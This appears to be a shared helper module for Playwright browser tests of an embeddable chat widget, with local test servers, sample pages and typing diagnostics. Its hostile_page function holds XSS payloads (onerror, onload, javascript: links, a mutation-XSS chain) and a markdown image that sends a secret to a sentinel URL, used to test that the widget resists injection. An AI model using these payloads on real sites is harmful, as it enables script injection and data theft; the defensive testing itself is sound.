"""What the browser tests share: the host-page servers, the pages they index, and widget steps."""

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import expect

from tests.conftest import REPO
from tests.servers import start_serving

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = REPO / "test-artifacts"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
    # The chat's cross-origin frame rendered in the page's own process, not in a process of its own: with
    # site isolation, under load, Chromium now and then routed no key at all to the frame (`typed`): 3 of
    # 84 widget and chat tests failed so at load ~7 on two cores, 0 of 168 without it. The same-origin
    # policy the XSS tests rely on is Blink's, in either process layout.
    "--disable-site-isolation-trials",
    "--disable-features=IsolateOrigins,site-per-process",
]
PWNED = "window.__pwned === undefined"

PRICING = """<html><head><title>Pricing</title></head><body><main><h1>Pricing</h1>
<h2 id="plans">Plans</h2><p>The Starter plan costs 10 euros per month and includes three assistants.
The Business plan costs 49 euros per month and includes unlimited assistants.</p></main></body></html>"""
INSTALL = """<html><head><title>Installation</title></head><body><main><h1>Installation</h1>
<h2 id="requirements">Requirements</h2><p>Install the gadget with the installer from the downloads page. It runs on Linux,
macOS and Windows, and needs two gigabytes of disk space.</p></main></body></html>"""


def hostile_page(sentinel_url: str) -> str:
    """A page whose text is a set of XSS payloads, quoted verbatim by the extractive answerer."""
    payloads = (
        "&lt;img src=x onerror=window.__pwned=1&gt; &lt;svg onload=window.__pwned=1&gt; "
        "[click me](javascript:window.__pwned=1) "
        "&lt;math&gt;&lt;mtext&gt;&lt;table&gt;&lt;mglyph&gt;&lt;style&gt;&lt;img src=x onerror=window.__pwned=1&gt; "
        f"![secret]({sentinel_url}/?q=secret)"
    )
    return f"""<html><head><title>Gizmo manual</title></head><body><main><h1>Gizmo manual</h1>
<h2>Setup</h2><p>The xyzzy gizmo plugs into any socket and needs no tools at all.</p>
<p>Xyzzy gizmo notes {payloads}</p></main></body></html>"""


class Recorder(ThreadingHTTPServer):
    """Serves ``pages`` (path → HTML) and records every request path in ``hits``."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        self.hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler):
                self.hits.append(handler.path)
                body = self.pages.get(handler.path.split("?")[0], "").encode()
                handler.send_response(200 if body else 404)
                handler.send_header("Content-Type", "text/html; charset=utf-8")
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body)

            def log_message(handler, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.port = self.server_address[1]
        start_serving(self)


def host_page(host_site, platform, assistant, path="/shop.html") -> str:
    """A host page that includes the snippet twice; returns its allowed (localhost) URL."""
    snippet = f'<script src="{platform}/widget.js" data-assistant="{assistant.public_key}" async></script>'
    host_site.pages[path] = f"""<!doctype html><html><head><title>Gadget shop</title>
<style>button {{ background: red; }} iframe {{ display: none; }}</style></head>
<body><h1>The gadget shop</h1>{snippet}{snippet}</body></html>"""
    return f"http://localhost:{host_site.port}{path}"


def chat_frame(page):
    return page.frame_locator("iframe.cs-panel")


def chat_ready(scope):
    """Wait for the chat's script to have started (``scope``: a page or a frame), on a slow machine
    the time between the page showing and its buttons working."""
    expect(scope.locator("#chat[data-ready]")).to_have_count(1, timeout=15_000)


def ask(page, question: str):
    """Type a question in the open widget, send it with Enter, and wait for the complete answer."""
    frame = chat_frame(page)
    chat_ready(frame)
    answers = frame.locator(".msg.assistant .feedback")
    count = answers.count()
    typed(frame.locator("#question"), question, lambda: frame.locator("#question").fill(question))
    frame.locator("#question").press("Enter")
    answered(page, count + 1, question)
    return frame.locator(".msg.assistant:not(.greeting)").last


def typed(box, text: str, type_it) -> None:
    """``type_it()``, then check that ``box`` holds ``text``. Seen before ``CHROMIUM_ARGS`` kept the chat's frame in
    the page's process, and kept as the diagnosis should it come back: under load (about one run in four of the widget's
    tests at load 7 on two cores), Chromium delivers no key at all to the cross-origin chat frame: the frame
    and its input have the focus, the input is enabled and takes a value set by script, and a listener in
    the frame sees no keydown, for as long as the test waits (typing again, clicking the input or resizing
    the page did not bring them). The test then fails here at once, with that diagnosis, and is run again
    (``BROWSER_RERUNS``), instead of waiting 30 s for an answer to a question that never arrived."""
    type_it()
    try:
        expect(box).to_have_value(text, timeout=5_000)
        return
    except AssertionError:
        pass
    probe = box.evaluate(
        """el => { window.__keys = []; el.ownerDocument.addEventListener('keydown', e => window.__keys.push(e.key), true);
        el.value = 'x'; const set = el.value; el.value = '';
        return {disabled: el.disabled, readOnly: el.readOnly, focused: el.ownerDocument.activeElement === el,
                frame_has_focus: el.ownerDocument.hasFocus(), set_by_script: set}; }"""
    )
    box.press("a")
    probe["keydowns_seen"] = box.evaluate("() => window.__keys")
    raise AssertionError(f"typing {text!r} never reached the chat's input: {probe}")


def answered(page, count: int, question: str = "") -> None:
    """Wait for the widget's ``count``-th complete answer; if it does not come, say what the chat was
    doing (what the input held, whether the question was shown, where the focus was)."""
    frame = chat_frame(page)
    try:
        expect(frame.locator(".msg.assistant .feedback")).to_have_count(count, timeout=30_000)
    except AssertionError:
        state = {
            "input": frame.locator("#question").input_value(),
            "user_bubbles": frame.locator(".msg.user").count(),
            "host_active": page.evaluate("document.activeElement && document.activeElement.outerHTML.slice(0, 80)"),
            "host_has_focus": page.evaluate("document.hasFocus()"),
            "frame_active": frame.locator("body").evaluate("() => document.activeElement && document.activeElement.id"),
            "frame_has_focus": frame.locator("body").evaluate("() => document.hasFocus()"),
            "status": frame.locator("#status").text_content(),
            "fetched": frame.locator("body").evaluate(
                "() => performance.getEntriesByType('resource').map(e => e.name.split('/').slice(3).join('/')"
                " + ' ' + Math.round(e.startTime) + '+' + Math.round(e.duration))"
            ),
            "now": frame.locator("body").evaluate("() => Math.round(performance.now())"),
            "console": getattr(page, "console", [])[-5:],
        }
        raise AssertionError(f"no answer {count} ({question!r}); the chat then: {state}") from None
